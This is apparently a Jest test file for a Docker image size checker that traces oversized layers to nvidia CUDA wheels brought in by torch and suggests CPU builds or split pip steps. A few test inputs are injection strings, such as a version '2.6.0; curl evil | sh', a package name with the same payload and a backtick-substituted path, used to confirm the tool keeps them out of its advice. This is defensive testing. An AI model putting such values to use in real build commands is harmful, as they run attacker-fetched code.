import { describe, expect, it } from "@jest/globals";
import { judgeImages } from "../../../src/judge/judge.ts";
import type { Distribution, ImageFacts, LayerFacts } from "../../../src/model/facts.ts";
import type { Verdict } from "../../../src/model/verdict.ts";
import { arm } from "../../support/arm.ts";
import { distribution, imageFacts, known, layerFacts, torchFacts } from "../../support/facts.ts";

const MB = 1e6;
const WHEELS = [
	distribution({ name: "nvidia-cublas-cu12", version: "12.4.5.8", bytes: 610 * MB }),
	distribution({ name: "nvidia-cudnn-cu12", version: "9.1.0.70", bytes: 1020 * MB }),
	distribution({ name: "nvidia-cusparse-cu12", version: "12.3.1.170", bytes: 310 * MB }),
	distribution({ name: "nvidia-nvtx-cu12", version: "12.4.127", bytes: 0.4 * MB }),
];
const PYTHON = [
	distribution({ name: "torch", version: "2.6.0", bytes: 1700 * MB }),
	...WHEELS,
	distribution({ name: "triton", version: "3.2.0", bytes: 590 * MB }),
	distribution({ name: "torchvision", version: "0.21.0+cu124", bytes: 20 * MB }),
	distribution({ name: "numpy", version: "2.2.1", bytes: 70 * MB }),
];
const pip = (text = "RUN pip install -r requirements.txt", more: Partial<LayerFacts> = {}) =>
	layerFacts({
		index: 1,
		unpackedBytes: 4400 * MB,
		compressedBytes: 2300 * MB,
		step: { text, file: "Dockerfile", line: 8 },
		...more,
	});

/** An image of a slim base and one layer of pip, which the torch of the index brought its CUDA into. */
function service(layer: LayerFacts = pip(), distributions: readonly Distribution[] = PYTHON): ImageFacts {
	return imageFacts({
		unpackedBytes: known(4500 * MB),
		compressedBytes: known(2350 * MB),
		rootfsBytes: known(4500 * MB),
		layers: known([layerFacts({ index: 0, unpackedBytes: 100 * MB, compressedBytes: 50 * MB, base: true }), layer]),
		distributions: known(distributions),
		torch: known([torchFacts({ ...(layer.step && { step: layer.step }) })]),
	});
}

function judge(inputs: Readonly<Record<string, string>>, facts: ImageFacts): Verdict | undefined {
	const { armed, problems } = arm(inputs);
	expect(problems).toEqual([]);
	return judgeImages(armed, [facts])[0];
}

describe("a size over its budget", () => {
	it("names the owners below the layer's line", () => {
		expect(judge({ "max-image-size": "3GB" }, service())?.evidence).toEqual([
			"layer 2 of 2: 4.4 GB, RUN pip install -r requirements.txt (Dockerfile:8)",
			"of it nvidia wheels 1.94 GB, torch 1.7 GB, triton 590 MB",
			expect.stringMatching(/^layer 1 of 2: 100 MB/),
		]);
		expect(judge({ "max-layer-size": "3GB" }, service())?.evidence).toEqual([
			expect.stringMatching(/^layer 2 of 2: 4\.4 GB/),
			"of it nvidia wheels 1.94 GB, torch 1.7 GB, triton 590 MB",
		]);
	});

	it("says of compressed layers that distributions are measured unpacked", () => {
		const verdict = judge({ "max-compressed-size": "1GB" }, service());
		expect(verdict?.evidence?.[1]).toBe("of it, unpacked: nvidia wheels 1.94 GB, torch 1.7 GB, triton 590 MB");
		expect(verdict?.remedy).toContain("saves the 1.94 GB (unpacked) of nvidia wheels");
	});

	it.each<[string, readonly Distribution[], string | undefined]>([
		["nobody in particular by the name", [distribution({ name: "scipy", bytes: 900 * MB })], "of it scipy 900 MB"],
		["nothing that is small", [distribution({ name: "numpy", bytes: 99 * MB })], undefined],
		["nothing of another layer", [distribution({ name: "scipy", bytes: 900 * MB, layer: 0 })], undefined],
		["nothing from numbers that contradict it", [distribution({ name: "scipy", bytes: 9000 * MB })], undefined],
	])("names %s", (_, distributions, line) => {
		const evidence = judge({ "max-layer-size": "3GB" }, service(pip(), distributions))?.evidence;
		expect(evidence?.[1]).toBe(line);
	});
});

describe("nvidia wheels that came with torch", () => {
	const CPU =
		"; no GPU where it runs? A CPU build saves the 1.94 GB of nvidia wheels: `pip install --index-url https://download.pytorch.org/whl/cpu torch==2.6.0 torchvision==0.21.0` in a RUN before Dockerfile:8, and cuda-version: none to keep it so";

	it("may go where there is no GPU: with the versions that the later step takes for its own", () => {
		expect(judge({ "max-image-size": "3GB" }, service())?.remedy).toBe(
			`make RUN pip install -r requirements.txt (Dockerfile:8) smaller (it adds 4.4 GB), or raise max-image-size${CPU}`,
		);
		expect(judge({ "max-layer-size": "3GB" }, service())?.remedy).toContain(CPU);
	});

	it.each([
		["cuda-version", "12.4"],
		["cuda-version", ">=12"],
		["torch-version", "==2.6.0+cu124"],
	])("stay where %s: %s asks for CUDA", (input, wish) => {
		expect(judge({ "max-image-size": "3GB", [input]: wish }, service())?.remedy).not.toContain("CPU build");
	});

	it.each([
		["cuda-version", "none", false],
		["torch-version", "==2.6.0", true],
		["torch-version", "!=2.6.1+cu124", true],
	])("with %s: %s are advised against, and what is asked already is not advised", (input, wish, keep) => {
		const remedy = judge({ "max-image-size": "3GB", [input]: wish }, service())?.remedy;
		expect(remedy).toContain("A CPU build saves");
		expect(remedy?.includes("cuda-version: none")).toBe(keep);
	});

	it.each<[string, ImageFacts]>([
		["the base image has them", service(pip(undefined, { base: true }))],
		["torch is built for the CPU", { ...service(), torch: known([torchFacts({ cuda: null })]) }],
		["torch came by another step", { ...service(), torch: known([torchFacts({ layer: 0 })]) }],
		["there are none", service(pip(), [distribution({ name: "torch", bytes: 1700 * MB })])],
		["they save little", service(pip(), [distribution({ name: "nvidia-ml-py", bytes: 1 * MB })])],
	])("are no advice when %s", (_, facts) => {
		expect(judge({ "max-image-size": "3GB" }, facts)?.remedy).not.toContain("CPU build");
	});

	it.each(["COPY --from=build /opt/venv /opt/venv", "RUN uv sync --frozen"])(
		"that came by %s: nothing before that step would help",
		(text) => {
			expect(judge({ "max-image-size": "3GB" }, service(pip(text)))?.remedy).toContain(
				"of nvidia wheels: have torch installed from https://download.pytorch.org/whl/cpu, and cuda-version: none",
			);
		},
	);

	it("are never named by a version that could be more than a version", () => {
		const facts = { ...service(), torch: known([torchFacts({ version: "2.6.0; curl evil | sh" })]) };
		expect(judge({ "max-image-size": "3GB" }, facts)?.remedy).toContain("/whl/cpu torch torchvision==0.21.0` in a RUN");
	});
});

describe("a layer of pip that is too large", () => {
	const split = (limit: string, layer = pip(), distributions = PYTHON) =>
		judge({ "max-layer-size": limit }, service(layer, distributions))?.remedy;

	it("is parted by the largest wheels in a step before it, as pip resolved them", () => {
		expect(split("3GB")).toMatch(
			/^split RUN pip install -r requirements\.txt \(Dockerfile:8\) into several steps \(`pip install --no-deps nvidia-cudnn-cu12==9\.1\.0\.70 nvidia-cublas-cu12==12\.4\.5\.8` in a RUN before it leaves 2\.77 GB in it, since pip takes what is there\), or install less in it; or raise max-layer-size above 4\.4 GB;/,
		);
	});

	it("says what stays when that is not enough, and puts no more into the new layer than it may hold", () => {
		expect(split("1.4GB")).toContain(
			"pip install --no-deps nvidia-cudnn-cu12==9.1.0.70 nvidia-cusparse-cu12==12.3.1.170` in a RUN before it leaves 3.07 GB in it",
		);
	});

	it.each([
		["RUN pip install --root-user-action=ignore torch", "pip install"],
		["RUN apt-get update && pip3 install torch", "pip3 install"],
		["RUN --mount=type=cache,target=/root/.cache/pip pip install torch", "pip install"],
		["RUN --mount=type=cache,target=/root/.cache python3 -m pip install torch", "python3 -m pip install"],
		["RUN python3.11 -m pip install torch", "python3.11 -m pip install"],
		["RUN python3 -Im pip -q install torch", "python3 -Im pip -q install"],
		["RUN MAX_JOBS=4 PYTHONUNBUFFERED=1 /opt/venv/bin/pip install torch", "/opt/venv/bin/pip install"],
		["RUN pip install -U pip && /opt/venv/bin/pip install torch", "/opt/venv/bin/pip install"],
		['RUN "$VENV/bin/pip" install torch', "$VENV/bin/pip install"],
		["RUN cd /app && pip install -r requirements.txt", "pip install"],
		["RUN pip install --break-system-packages torch", "pip install --break-system-packages"],
		["RUN pip --python=/opt/venv/bin/python install torch", "pip --python=/opt/venv/bin/python install"],
		["RUN if true; then pip install torch; fi", "pip install"],
		["RUN <<EOF\nset -e\npip install torch\nEOF", "pip install"],
	])("of %s, by who installs there", (text, command) => {
		expect(split("3GB", pip(text))).toContain(
			`(\`${command} --no-deps nvidia-cudnn-cu12==9.1.0.70 nvidia-cublas-cu12==12.4.5.8\` in a RUN before it leaves 2.77 GB in it, since pip takes`,
		);
		expect(judge({ "max-image-size": "3GB" }, service(pip(text)))?.remedy).toContain(
			`: \`${command} --index-url https://download.pytorch.org/whl/cpu torch==2.6.0 torchvision==0.21.0\` in a RUN before`,
		);
	});

	it.each([
		["RUN uv pip install torch", "uv pip install"],
		["RUN uv pip install --system torch", "uv pip install --system"],
		["RUN uv pip install -q --python /opt/venv/bin/python torch", "uv pip install --python /opt/venv/bin/python"],
		["RUN uv pip install --python=3.11 torch", "uv pip install --python=3.11"],
		["RUN uv pip install -qp /opt/venv/bin/python torch", "uv pip install -p /opt/venv/bin/python"],
		["RUN /root/.local/bin/uv --no-cache pip install torch", "/root/.local/bin/uv --no-cache pip install"],
		[
			"RUN --mount=type=cache,target=/root/.cache/uv uv pip install --system --break-system-packages -r r.txt",
			"uv pip install --system --break-system-packages",
		],
		["RUN python3 -m uv pip install --system torch", "python3 -m uv pip install --system"],
	])("of %s, by uv as there", (text, command) => {
		expect(split("3GB", pip(text))).toContain(
			`(\`${command} --no-deps nvidia-cudnn-cu12==9.1.0.70 nvidia-cublas-cu12==12.4.5.8\` in a RUN before it leaves 2.77 GB in it, since uv takes`,
		);
		expect(judge({ "max-image-size": "3GB" }, service(pip(text)))?.remedy).toContain(
			`: \`${command} --index-url https://download.pytorch.org/whl/cpu torch==2.6.0`,
		);
	});

	it("of a step whose text was cut, as the image's history has it", () => {
		const command = `pip install ${"--find-links /wheels ".repeat(12)}torch`;
		const cut = (venv: string) =>
			pip(`${`RUN ${venv}/bin/${command}`.slice(0, 199)}…`, {
				createdBy: `RUN |1 A=b /bin/sh -c ${venv}/bin/${command} # buildkit`,
			});
		expect(split("3GB", cut("/opt/venv"))).toContain("`/opt/venv/bin/pip install --no-deps nvidia-");
		expect(split("3GB", { ...cut("/opt/venv"), createdBy: "" })).toMatch(/ into several steps, or install less/);
	});

	it.each([
		"RUN . /opt/venv/bin/activate && pip install torch",
		"RUN source /opt/venv/bin/activate; pip install torch",
		"RUN <<EOF\n. /opt/venv/bin/activate\npip install torch\nEOF",
		"RUN . ./env.sh && pip install torch",
		"RUN conda run -n ml pip install torch",
		'RUN eval "$(conda shell.bash hook)" && conda activate ml && pip install torch',
		'RUN bash -c "source activate ml && pip install torch"',
		"RUN VIRTUAL_ENV=/opt/venv uv pip install torch",
		"RUN export VIRTUAL_ENV=/opt/venv && uv pip install torch",
		"RUN UV_SYSTEM_PYTHON=1 uv pip install torch",
		'RUN export PATH="/opt/venv/bin:$PATH" && pip install torch',
		"RUN PIP_TARGET=/app pip install torch",
		"RUN sudo -H pip install torch",
		"RUN poetry run pip install torch",
		"RUN python3 -m venv /opt/venv && /opt/venv/bin/pip install torch",
		"RUN pip install uv && uv pip install --system torch",
		"RUN --mount=from=ghcr.io/astral-sh/uv,source=/uv,target=/bin/uv uv pip install --system torch",
		"RUN apt-get update && apt-get install -y python3-pip && pip3 install torch",
		"RUN V=/opt/venv && $V/bin/pip install torch",
		"RUN cd /app && .venv/bin/pip install torch",
		"RUN pip install transformers && /opt/venv/bin/pip install torch",
		"RUN `which pip`/pip install torch",
		"RUN uv pip install --python '/x`evil`' torch",
	])("but by no command for %s, which does not tell who installs, or not for another RUN", (text) => {
		expect(split("3GB", pip(text))).toMatch(/ into several steps, or install less/);
		expect(judge({ "max-image-size": "3GB" }, service(pip(text)))?.remedy).toContain(
			"of nvidia wheels: have torch installed from https://download.pytorch.org/whl/cpu, and",
		);
	});

	it.each([
		"COPY --from=build /opt/venv /opt/venv",
		"RUN conda install pytorch",
		"RUN uv sync --frozen",
		"RUN pip install --target /app torch",
		"RUN pip install -qt /app torch",
		"RUN pip install --prefix=/app torch",
		"RUN pip install --force-reinstall torch",
		"RUN uv pip install --system --reinstall torch",
	])("but not of %s, which takes nothing that is there", (text) => {
		expect(split("3GB", pip(text))).toMatch(/ into several steps, or install less/);
	});

	it("but not by wheels that are not wanted", () => {
		const inputs = { "max-layer-size": "3GB", "cuda-version": "none" };
		expect(judge(inputs, service())?.remedy).not.toContain("--no-deps");
	});

	it("but not by names that could be more than names", () => {
		const evil = [
			distribution({ name: "torch", bytes: 1700 * MB }),
			distribution({ name: "nvidia-x; curl evil | sh", bytes: 2000 * MB }),
			distribution({ name: "nvidia-y", version: "1 && evil", bytes: 500 * MB }),
		];
		expect(split("3GB", pip(), evil)).not.toMatch(/evil/);
	});
});
